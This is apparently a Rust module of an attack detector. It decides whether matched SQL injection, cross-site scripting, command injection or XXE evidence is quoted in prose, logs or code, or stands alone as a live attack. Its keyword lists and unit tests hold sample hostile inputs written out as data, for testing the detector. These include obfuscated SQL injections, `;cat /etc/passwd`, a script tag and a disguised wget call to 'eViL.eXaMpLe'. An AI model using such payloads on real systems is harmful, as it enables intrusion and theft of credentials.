//! Whether evidence is quoted: an attack that people write about stands among the words of a language, or in the
//! lines of a longer text. What is sent to break something stands alone.

use crate::rules::{self, Rule};
use crate::text::{at, find, find_byte, is_space, rest, skip, span, steps};

mod words;

use words::words;

/// Bytes on each side of the evidence that are read for words; two sentences.
const WINDOW: usize = 200;
/// What a look around evidence costs, in bytes read: those on both sides, and some more than once.
const COST: usize = 400;
/// Points from which words are prose: three words that carry grammar, or fewer with others around them.
const PROSE: i32 = 6;
/// Lines from which a text is a document, and their mean length; a line break as a blank makes shorter ones.
const LINES: usize = 4;
const LINE: usize = 10;

/// Tokens that source code of one language or another is full of.
const CODE: [&[u8]; 36] = [
    b"function",
    b"return",
    b"var ",
    b"const ",
    b"let ",
    b"=>",
    b"if (",
    b"if(",
    b"else",
    b"import ",
    b"});",
    b"this.",
    b"void 0",
    b"def ",
    b"self.",
    b"public ",
    b"static ",
    b"#include",
    b"for (",
    b"for(",
    b".prototype",
    b"typeof",
    b"require(",
    b"class ",
    b"null",
    b"export ",
    b"private ",
    b"===",
    b"!==",
    b"elif ",
    b".then(",
    b"console.",
    b"window.",
    b".tostring(",
    b".push(",
    b".createelement(",
];
/// Bytes of a value that are read for such tokens, and how many kinds of them make it source code. Chosen.
const SOURCE: (usize, usize) = (4096, 5);

/// Evidence of several words in the order of a grammar, which nobody types by chance.
const WHOLE: [&Rule; 5] = [
    &rules::SQLI_UNION,
    &rules::SQLI_STACKED,
    &rules::SQLI_SUBQUERY,
    &rules::SQLI_FUNCTION,
    &rules::XXE_ENTITY,
];

/// What surrounds evidence in a value.
pub(crate) struct Surroundings<'a> {
    value: &'a [u8],
    lines: Option<Lines>,
    source: Option<bool>,
    cost: usize,
    address: bool,
}

/// What the lines of a value make of it.
#[derive(Clone, Copy)]
struct Lines {
    /// Several, of some length.
    document: bool,
    /// So many that it is the source of a page or program rather than what an editor of pages sends.
    page: bool,
}

impl<'a> Surroundings<'a> {
    pub(crate) fn new(value: &'a [u8]) -> Self {
        Self {
            value,
            lines: None,
            source: None,
            cost: 0,
            address: false,
        }
    }

    /// A part of an address or a cookie: script in it is no program that somebody shares.
    pub(crate) fn in_address(self) -> Self {
        Self {
            address: true,
            ..self
        }
    }

    /// Says whether evidence of `rule` at `from..to` is quoted rather than meant.
    pub(crate) fn quote(&mut self, rule: &Rule, from: usize, to: usize) -> bool {
        let value = self.value;
        let markup = [
            &rules::XSS_SCRIPT,
            &rules::XSS_HANDLER,
            &rules::XSS_ELEMENT,
            &rules::XSS_URL,
            &rules::XSS_STYLE,
        ];
        let markup = markup.iter().any(|known| known.id == rule.id);
        // What holds for the whole value is asked first: it is known once, and values have thousands of matches.
        let lines = self.lines();
        let shown = self.source == Some(true) || if markup { lines.page } else { lines.document };
        if shown && !self.address {
            return true;
        }
        self.cost += COST;
        let named = rule.id == rules::PATH_FILE.id || rule.id == rules::CMD_PROGRAM.id;
        if named && is_mentioned(value, from, to) {
            return true;
        }
        const BY_CHANCE: [&Rule; 14] = [
            &rules::CMD_INJECTION,
            &rules::CMD_SUBSTITUTION,
            &rules::SQLI_OPERATOR,
            &rules::SQLI_COMMENT,
            &rules::SQLI_HINT,
            &rules::SQLI_TAUTOLOGY,
            &rules::TEMPLATE_EXPRESSION,
            &rules::CODE_SERVER_PAGE,
            &rules::CODE_PHP,
            &rules::LDAP_FILTER,
            &rules::PROTOCOL_NUL,
            &rules::PROTOCOL_CONTROL,
            &rules::PROTOCOL_ENCODING,
            &rules::CMD_PROGRAM,
        ];
        // An expression that began by chance goes on to the end of the value.
        if BY_CHANCE.iter().any(|known| known.id == rule.id)
            && is_noise(value, from, to.min(from + 24))
        {
            return true;
        }
        if value.len() < 40 {
            return false;
        }
        if is_logged(value, from, to) {
            return true;
        }
        let before = words(uncommented(span(value, from.saturating_sub(WINDOW), from)));
        // Behind the whole of an element, not behind the name of its tag.
        let to = if markup { element_end(value, to) } else { to };
        let after = span(value, to, to.saturating_add(WINDOW));
        // What is commented out is a sentence only if there was one before.
        let told = if !markup && before.points == 0 {
            comment(after)
        } else {
            after.len()
        };
        let after = words(span(after, 0, told));
        // A search for a text about an attack goes on in words, or in none that is an attack by itself.
        if self.address && after.points == 0 && WHOLE.iter().any(|known| known.id == rule.id) {
            return false;
        }
        let (fewer, sum) = (
            before.points.min(after.points),
            before.points + after.points,
        );
        let among_words = before.grammar + after.grammar > 0
            && if markup {
                // Markup is live among words: they must be on both sides.
                fewer >= PROSE / 2 && sum >= PROSE || fewer >= 2 && sum >= 2 * PROSE
            } else {
                sum >= PROSE
            };
        let commented = || {
            before.points >= 2 && is_commented(span(value, to, to.saturating_add(WINDOW)))
                || rule.id == rules::PATH_FILE.id && is_fields(value)
        };
        among_words || !markup && commented() || !self.address && self.is_source()
    }

    /// Returns what was looked at since the last call, in bytes.
    pub(crate) fn take_cost(&mut self) -> usize {
        std::mem::take(&mut self.cost)
    }

    /// Says whether the value is source code, on one line or many.
    fn is_source(&mut self) -> bool {
        let value = self.value;
        *self.source.get_or_insert_with(|| {
            let (bytes, kinds) = SOURCE;
            let start = span(value, 0, bytes).to_ascii_lowercase();
            let start = start.as_slice();
            value.len() >= 240
                && CODE
                    .iter()
                    .filter(|token| find(start, 0, token).is_some())
                    .count()
                    >= kinds
        })
    }

    fn lines(&mut self) -> Lines {
        let value = self.value;
        *self.lines.get_or_insert_with(|| {
            steps::count(value.len() * 2);
            let breaks = memchr::memchr_iter(b'\n', value).count();
            let lines = breaks + 1;
            // Where a line break stands for a blank there are no blanks.
            let blanks = memchr::memchr_iter(b' ', value).count();
            let document = lines >= LINES && value.len() / lines >= LINE && blanks * 2 >= lines;
            Lines {
                document,
                page: document && breaks >= 2 * LINES,
            }
        })
    }
}

/// Says whether a file or program is named in a sentence: words on both sides, or Chinese on one, and nothing that a
/// shell would go on with.
fn is_mentioned(value: &[u8], from: usize, to: usize) -> bool {
    let before = span(value, from.saturating_sub(WINDOW), from);
    let after = span(value, to, to.saturating_add(WINDOW));
    let goes_on = [before, after].iter().any(|side| {
        side.iter()
            .any(|b| matches!(b, b'|' | b'&' | b'`' | b'$' | b'<' | b'\\'))
            || side.windows(2).any(|pair| pair == b"..")
    });
    if goes_on {
        return false;
    }
    // The name goes on behind the literal that was found.
    let end = skip(after, 0, |b| b.is_ascii_graphic());
    let (left, right) = (words(before), words(span(after, end, after.len())));
    let chinese = |side: &[u8]| side.iter().filter(|b| **b >= 0x80).count() >= 4;
    left.points >= 1 && left.points + right.points >= 4 && right.points >= 1
        || chinese(before)
        || chinese(after)
}

/// Says whether a comment behind evidence is a sentence: what is sent to break something has nothing to say.
fn is_commented(after: &[u8]) -> bool {
    find(after, 0, b"-- ").is_some_and(|at| words(span(after, at, after.len())).points >= 3)
}

/// Returns what stands behind the last comment of SQL or script that is closed before evidence.
fn uncommented(before: &[u8]) -> &[u8] {
    let close = before.windows(2).rposition(|pair| pair == b"*/");
    close.map_or(before, |close| rest(before, close + 2))
}

/// Returns where a comment of SQL, script or a shell begins, or the length.
pub(super) fn comment(after: &[u8]) -> usize {
    let opens = |(i, pair): (usize, &[u8])| {
        let (first, second) = (at(pair, 0), at(pair, 1));
        let led = i == 0 || at(after, i - 1) != b':';
        (matches!((first, second), (b'/', b'*') | (b'-', b'-'))
            || first == b'/' && second == b'/' && led
            || first == b'#' && (is_space(second) || second == b'+'))
            .then_some(i)
    };
    after
        .windows(2)
        .enumerate()
        .find_map(opens)
        .unwrap_or(after.len())
}

/// `type=1400 operation="open" name="/proc/x" comm="node"`: fields as programs write them into logs.
fn is_fields(value: &[u8]) -> bool {
    let pairs = memchr::memchr_iter(b'=', value)
        .filter(|&i| {
            i > 0
                && (at(value, i - 1).is_ascii_alphanumeric() || at(value, i - 1) == b'_')
                && (at(value, i + 1).is_ascii_alphanumeric() || at(value, i + 1) == b'"')
        })
        .take(3)
        .count();
    pairs == 3 && memchr::memchr_iter(b' ', value).take(4).count() == 4
}

/// Says whether bytes around evidence are noise: passwords, ciphertext, packed bytes. Such text changes between kinds
/// of characters at nearly every step, and what means something to a parser stands in it by chance.
fn is_noise(value: &[u8], from: usize, to: usize) -> bool {
    const HALF: usize = 40;
    let text = span(value, from.saturating_sub(HALF), to.saturating_add(HALF));
    // Words that mean something, and comments between letters of either case, are a disguise and no noise.
    const MEANT: [&[u8]; 16] = [
        b"/*",
        b"select",
        b"union",
        b"sleep",
        b"from",
        b"where",
        b"benchmark",
        b"concat",
        b"echo",
        b"curl",
        b"wget",
        b"eval",
        b"exec",
        b"system",
        b"passwd",
        b"whoami",
    ];
    if text.len() < 12 {
        return false;
    }
    let kind = |b: u8| match b {
        b'a'..=b'z' => 0,
        b'A'..=b'Z' => 1,
        b'0'..=b'9' => 2,
        b'!'..=b'~' => 3,
        _ => 4,
    };
    let mut counts = [0_usize; 5];
    let (mut changes, mut before) = (0, 4);
    let (mut run, mut longest) = (0_usize, 0_usize);
    let mut signs = 0_u128;
    for &b in text {
        let kind = kind(b);
        if let Some(count) = counts.get_mut(kind) {
            *count += 1;
        }
        changes += usize::from(kind != before);
        before = kind;
        run = if kind < 2 { run + 1 } else { 0 };
        longest = longest.max(run);
        if kind == 3 {
            signs |= 1 << b;
        }
    }
    steps::count(text.len());
    let [lower, upper, digits, punctuation, other] = counts;
    let length = text.len();
    let mixed = other == 0
        && changes * 20 >= length * 11
        && lower * 12 >= length
        && upper * 12 >= length
        && digits + usize::from(length < 24) > 0
        && punctuation * 6 >= length
        && signs.count_ones() >= 4
        && longest <= 8;
    mixed && {
        let lower = text.to_ascii_lowercase();
        MEANT.iter().all(|word| find(&lower, 0, word).is_none())
    }
}

/// Returns where the element ends whose tag holds `from`, with the script in it.
fn element_end(value: &[u8], from: usize) -> usize {
    let window = span(value, from, from.saturating_add(WINDOW));
    let Some(tag) = find_byte(window, 0, b'>') else {
        return from;
    };
    let close = window
        .windows(8)
        .position(|window| window.eq_ignore_ascii_case(b"</script"))
        .and_then(|close| find_byte(window, close, b'>'));
    from + close.unwrap_or(tag) + 1
}

/// Says whether evidence stands in a request line of an access log: `"GET /… HTTP/1.1" 404`.
fn is_logged(value: &[u8], from: usize, to: usize) -> bool {
    let start = span(value, from.saturating_sub(WINDOW), from);
    let begins = memchr::memchr_iter(b'"', start).any(|quote| {
        [&b"\"get /"[..], b"\"post /", b"\"head /"]
            .iter()
            .any(|method| span(start, quote, quote + method.len()).eq_ignore_ascii_case(method))
    });
    let end = span(value, to, to.saturating_add(WINDOW));
    begins
        && end.windows(11).any(|window| {
            span(window, 0, 8).eq_ignore_ascii_case(b" http/1.") && span(window, 9, 11) == b"\" "
        })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn quoted(value: &str, evidence: &str, rule: &Rule) -> bool {
        let from = find(value.as_bytes(), 0, evidence.as_bytes()).unwrap();
        Surroundings::new(value.as_bytes()).quote(rule, from, from + evidence.len())
    }

    #[test]
    fn evidence_among_words_is_quoted() {
        for (value, evidence, rule) in [
            (
                "A classic SQL injection is ' OR '1'='1' --, which turns the WHERE clause into a tautology.",
                "' OR '1'='1'",
                &rules::SQLI_TAUTOLOGY,
            ),
            (
                "作者说 ' or '1'='1 这种写法最经典，受教了。",
                "' or '1'='1",
                &rules::SQLI_TAUTOLOGY,
            ),
            (
                "配置文件在 /etc/nginx/nginx.conf，改完以后记得 reload。",
                "/etc/nginx",
                &rules::PATH_FILE,
            ),
            (
                "we escape < and > so that <script>alert(1)</script> is shown to you as text",
                "<script>",
                &rules::XSS_SCRIPT,
            ),
            (
                "#!/bin/sh\nset -e\nfor f in \"$DIR\"/*.log; do cat /etc/passwd\n  echo done\ndone and done and done\n",
                "cat",
                &rules::CMD_INJECTION,
            ),
        ] {
            assert!(quoted(value, evidence, rule), "{value}");
        }
    }

    #[test]
    fn noise_is_told_from_a_disguise() {
        let noise = |value: &str, evidence: &str| {
            let from = find(value.as_bytes(), 0, evidence.as_bytes()).unwrap_or(0);
            is_noise(value.as_bytes(), from, from + evidence.len())
        };
        assert!(noise(
            "HIM^0B]Lf@h2FZT+O+p;W>u8;mIX+qA)equ7GjsLU$m,XB",
            ";W"
        ));
        assert!(noise("+f8(VDKC+PT$&b='D/l5uF7:*q[m3]PmY%nN2_]b&6", "'D/l"));
        for disguise in [
            "1'/**/aNd/**/SlEeP(5)/**/aNd/**/'A'='a",
            "-1'/*!50000UnIoN*//*!50000SeLeCt*/1,2,3#",
            "x';WgEt${IFS}eViL.eXaMpLe/A1;",
            "1' and '1'='1",
            ";cat /etc/passwd",
        ] {
            assert!(!noise(disguise, ";") && !noise(disguise, "'"), "{disguise}");
        }
    }

    #[test]
    fn words_that_are_commented_out_quote_nothing() {
        for (value, evidence, rule) in [
            (
                "1 union select a, b from c /* please see the page that you were looking for */",
                "union",
                &rules::SQLI_UNION,
            ),
            (
                "1 or 1=1 -- please see the page that you were looking for, it is there for you",
                "or 1=1",
                &rules::SQLI_TAUTOLOGY,
            ),
            (
                "/* please see the page that you were looking for */1 union select a, b from c",
                "union",
                &rules::SQLI_UNION,
            ),
            (
                "a;id # please see the page that you were looking for, it is there for you",
                ";id",
                &rules::CMD_INJECTION,
            ),
        ] {
            assert!(!quoted(value, evidence, rule), "{value}");
        }
    }

    #[test]
    fn words_before_an_attack_that_ends_an_address_quote_nothing() {
        let attack = "please see the page that you were' union select a, b from c --";
        for (value, expected) in [
            (attack.to_owned(), false),
            (
                format!("{attack} is what the log said, so what is it?"),
                true,
            ),
        ] {
            let from = value.find("union").unwrap();
            let mut address = Surroundings::new(value.as_bytes()).in_address();
            assert_eq!(
                address.quote(&rules::SQLI_UNION, from, from + 30),
                expected,
                "{value}"
            );
        }
    }

    #[test]
    fn an_address_holds_no_program_and_no_page() {
        let page = "\n<!entity % a system \"https://a.example/x\">\nrows x=1 y=2\nrows x=1 y=2\nrows x=1 y=2";
        let from = page.find("<!entity").unwrap();
        let rule = &rules::XXE_ENTITY;
        let mut body = Surroundings::new(page.as_bytes());
        assert!(body.quote(rule, from, from + 8));
        let mut address = Surroundings::new(page.as_bytes()).in_address();
        assert!(!address.quote(rule, from, from + 8));
    }

    #[test]
    fn evidence_that_stands_alone_is_not() {
        for (value, evidence, rule) in [
            (
                "1' union select username, password, email, address from users where login like 'a%' --",
                "union",
                &rules::SQLI_UNION,
            ),
            (
                "nice post, thank you so much for it! <script>alert(1)</script>",
                "<script>",
                &rules::XSS_SCRIPT,
            ),
            (
                "1\nunion\nselect\n1,\n2,\n3\nfrom\nusers\nwhere\n1=1\n--\n",
                "union",
                &rules::SQLI_UNION,
            ),
            (
                "some long host name.example.org; cat /etc/passwd",
                "; cat",
                &rules::CMD_INJECTION,
            ),
            ("' or 1=1 -- the", "or 1=1", &rules::SQLI_TAUTOLOGY),
        ] {
            assert!(!quoted(value, evidence, rule), "{value}");
        }
    }
}
